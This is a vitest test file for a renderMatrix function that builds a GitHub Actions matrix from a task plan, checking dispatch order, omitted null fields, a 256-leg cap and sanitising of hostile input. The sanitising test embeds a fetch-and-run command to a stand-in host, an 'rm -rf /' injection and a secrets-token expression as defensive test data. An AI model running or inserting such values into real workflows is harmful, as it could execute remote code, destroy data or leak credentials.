import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { planWaves } from '../../src/core/planWaves.js';
import { renderMatrix } from '../../src/render/renderMatrix.js';
import { parseTasksText } from '../../src/sources/parseTasksText.js';

const seedYaml = readFileSync(new URL('../../examples/seed/waves.yml', import.meta.url), 'utf8');

function planOf(text: string) {
  const { plan, problems } = parseTasksText(text, 'waves.yml');
  expect(problems.filter((problem) => problem.severity === 'error')).toEqual([]);
  if (!plan) throw new Error('no plan');
  return plan;
}

describe('renderMatrix', () => {
  it('lists the dispatched seed tasks in dispatch order with their checked fields', () => {
    const plan = planOf(seedYaml.replace('status: in-progress', 'status: done'));
    const result = planWaves(plan);
    const matrix = renderMatrix(plan, result);
    expect(matrix.include.map((entry) => entry.task)).toEqual(result.dispatch);
    expect(matrix.include.map((entry) => entry.task)).toEqual(['257', '256', '254', '253']);
    expect(matrix.include[0]).toEqual({ task: '257', title: 'SQLite State Management', agent: 'database-engineer-agent', priority: 'high', complexity: 6 });
    expect(matrix.include[2]).toEqual({ task: '254', title: 'Embedded Pattern System', agent: 'rust-engineer-agent', priority: 'medium', complexity: 6, resources: 'cpu' });
  });

  it('is null-free: absent fields are left out, not written as null', () => {
    const plan = planOf('tasks:\n  - id: only\n    title: Bare task\n');
    const matrix = renderMatrix(plan, planWaves(plan));
    expect(matrix).toEqual({ include: [{ task: 'only', title: 'Bare task', priority: 'medium' }] });
    expect(JSON.stringify(matrix)).not.toContain('null');
  });

  it('sanitises a hostile title and drops an agent or resource class outside the safe set', () => {
    const title = `Deploy\n$(curl evil.example | sh)\u001b[31m red \u202Ereversed ${'x'.repeat(300)}`;
    const plan = planOf(`tasks:\n  - id: 1\n    title: ${JSON.stringify(title)}\n    agent: "x; rm -rf /"\n    resources: "\${{ secrets.TOKEN }}"\n  - id: 2\n    title: Fine\n    agent: claude.code_v2-agent\n    resources: gpu-large\n`);
    const [hostile, fine] = renderMatrix(plan, planWaves(plan)).include;
    expect(hostile?.task).toBe('1');
    expect(Array.from(hostile?.title ?? '').filter((char) => char < ' ' || char === '\u007f' || char === '\u202e')).toEqual([]);
    expect(hostile?.title.startsWith('Deploy $(curl evil.example | sh) [31m red reversed')).toBe(true);
    expect(Array.from(hostile?.title ?? '').length).toBeLessThanOrEqual(100);
    expect(hostile?.title.endsWith('…')).toBe(true);
    expect(hostile).not.toHaveProperty('agent');
    expect(hostile).not.toHaveProperty('resources');
    expect(fine).toMatchObject({ task: '2', agent: 'claude.code_v2-agent', resources: 'gpu-large' });
  });

  it('caps the matrix at 256 legs, the most GitHub accepts', () => {
    const tasks = Array.from({ length: 300 }, (_, index) => `  - id: ${index + 1}\n    title: Task ${index + 1}\n`).join('');
    const plan = planOf(`tasks:\n${tasks}`);
    const result = planWaves(plan, { maxParallel: 300 });
    expect(result.dispatch).toHaveLength(300);
    const matrix = renderMatrix(plan, result);
    expect(matrix.include).toHaveLength(256);
    expect(matrix.include.map((entry) => entry.task)).toEqual(result.dispatch.slice(0, 256));
  });
});
